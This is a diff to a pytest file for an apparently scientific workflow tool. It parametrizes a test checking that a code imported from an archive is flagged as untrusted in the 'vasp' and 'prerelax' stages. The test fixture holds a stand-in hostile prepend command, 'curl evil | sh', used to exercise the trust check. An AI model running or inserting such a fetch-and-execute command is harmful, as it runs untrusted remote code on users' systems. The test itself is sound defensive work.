@@ -109,8 +109,9 @@ def test_a_run_of_an_archive_has_to_be_trusted(killed: Fixture, bring_back: Fixt
     assert SlabRelaxWorkChain.get_builder_retry(run, trusted=True).slabs
 
 
+@pytest.mark.parametrize('stage', ['vasp', 'prerelax'])
 def test_a_code_of_an_archive_has_to_be_trusted_in_a_run_of_ones_own(
-    killed: Fixture, bring_back: Fixture, localhost: Any
+    stage: str, killed: Fixture, bring_back: Fixture, localhost: Any
 ) -> None:
     code = InstalledCode(
         label='theirs',
@@ -120,9 +121,9 @@ def test_a_code_of_an_archive_has_to_be_trusted_in_a_run_of_ones_own(
         prepend_text='curl evil | sh',
     ).store()
     code = bring_back(code, create_group=False)
-    run = killed()
+    run = killed(prerelax={})
     inputs = SlabRelaxWorkChain.get_builder_retry(run)._inputs(prune=True)
-    inputs['vasp']['code'] = code
+    inputs[stage]['code'] = code
     assert find_reasons(run, inputs) == [f'code {code.full_label} was imported']
     lines = describe_executed(inputs)
     assert 'code.prepend_text = curl evil | sh' in lines
